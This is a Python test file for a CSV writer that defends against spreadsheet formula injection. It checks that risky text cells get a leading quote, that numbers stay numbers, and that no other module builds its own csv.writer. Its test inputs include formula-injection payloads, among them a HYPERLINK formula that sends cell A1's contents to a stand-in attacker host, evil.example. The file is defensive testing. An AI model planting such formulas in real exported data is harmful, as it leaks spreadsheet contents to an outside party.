"""CSV injection (issue 15): every CSV the project writes goes through app.csv_writer,
which writes a text cell a spreadsheet would run as a formula with a leading quote and
numbers as numbers."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.csv_writer import Cell, encode, written_cell

APP = Path(__file__).resolve().parent.parent / "app"


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
        "+81-268-00-0000",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "＝１＋１",
        "＋1",
        "－1",
        "＠SUM(A1)",
    ],
)
def test_text_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    assert _rows(encode(("title",), [(text,)], bom=True)) == [["title"], ["'" + text]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-300, "-300"),
        (0, "0"),
        (57.1, "57.1"),
        (-12.5, "-12.5"),
        (Decimal("-1.0"), "-1.0"),
        (True, "1"),
        (None, ""),
        ("上田市 =1", "上田市 =1"),
        ("a-b", "a-b"),
        ("", ""),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_untouched(value: Cell, written: str) -> None:
    assert _rows(encode(("value",), [(value,)], bom=False)) == [["value"], [written]]


def test_quotes_commas_and_line_breaks_stay_in_their_cell() -> None:
    content = encode(("a", "b"), [('=1,"2"\n3', "x")], bom=False)
    assert content == b'a,b\r\n"\'=1,""2""\n3",x\r\n'


def test_no_other_module_writes_csv() -> None:
    """A new export that builds its own csv.writer would skip the escaping."""
    offenders = []
    for path in APP.rglob("*.py"):
        if path == APP / "csv_writer.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            writer = (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            if writer or (isinstance(node, ast.ImportFrom) and node.module == "csv"):
                offenders.append(f"{path.relative_to(APP.parent)}:{node.lineno}")
    assert offenders == []


CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**6), 10**6),
    st.text(alphabet=st.sampled_from(list("a1 ,\"\r\n\t=+-@＝－申'")), max_size=6),
)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=5), max_size=4))
def test_rows_joined_from_written_cells_are_the_writers_rows(rows: list[list[Cell]]) -> None:
    """The open data joins rows by hand from cells written once (app.kpi.open_data):
    byte for byte what the writer gives, quoting and escaping included."""
    joined = "".join(",".join(map(written_cell, row)) + "\r\n" for row in rows)
    assert ("h,h\r\n" + joined).encode() == encode(("h", "h"), rows, bom=False)
